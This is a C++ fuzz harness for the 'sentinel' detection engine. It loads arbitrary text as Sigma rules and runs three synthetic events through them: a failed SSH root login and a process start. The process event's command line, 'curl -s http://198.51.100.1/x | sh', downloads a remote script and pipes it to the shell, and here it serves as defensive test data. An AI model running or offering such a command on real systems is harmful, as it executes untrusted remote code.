// Loads arbitrary text as Sigma rule files, then runs a few fixed events through whatever
// loaded: the loader must report problems, never crash, and the engine must cope with any rule
// set the loader accepts.

#include <cstddef>
#include <cstdint>
#include <string>
#include <vector>

#include "sentinel/detection/engine.h"
#include "sentinel/detection/rules.h"

namespace {

using sentinel::detection::Event;

std::vector<Event> events() {
  std::vector<Event> out;
  Event log;
  log.id = 1;
  log.agent_id = "agt-1";
  log.time_ms = 1'700'000'000'000;
  log.type = "log";
  log.fields = {{"event.type", "log"},
                {"event.module", "sshd"},
                {"event.outcome", "failure"},
                {"event.category", "authentication"},
                {"source.ip", "203.0.113.9"},
                {"user.name", "root"},
                {"process.pid", "4242"},
                {"message", "Failed password for root from 203.0.113.9 port 4242 ssh2"}};
  out.push_back(log);
  Event process = log;
  process.id = 2;
  process.time_ms += 1000;
  process.type = "process.start";
  process.fields = {{"event.type", "process.start"},
                    {"process.executable", "/usr/bin/curl"},
                    {"process.command_line", "curl -s http://198.51.100.1/x | sh"},
                    {"user.name", "www-data"},
                    {"destination.ip", "::ffff:10.0.0.1"},
                    {"file.size", ""}};
  out.push_back(process);
  Event repeat = log;
  repeat.id = 3;
  repeat.time_ms += 2000;
  out.push_back(repeat);
  return out;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  static const std::vector<Event> kEvents = events();
  const std::string text(reinterpret_cast<const char*>(data), size);
  const sentinel::detection::RuleLoad load = sentinel::detection::load_rules({{"fuzz.yml", text}});
  sentinel::detection::Engine engine(load.rules);
  std::vector<sentinel::detection::Detection> out;
  for (const Event& event : kEvents) engine.evaluate(event, out);
  engine.replace_rules(load.rules);
  for (const Event& event : kEvents) engine.evaluate(event, out);
  return 0;
}
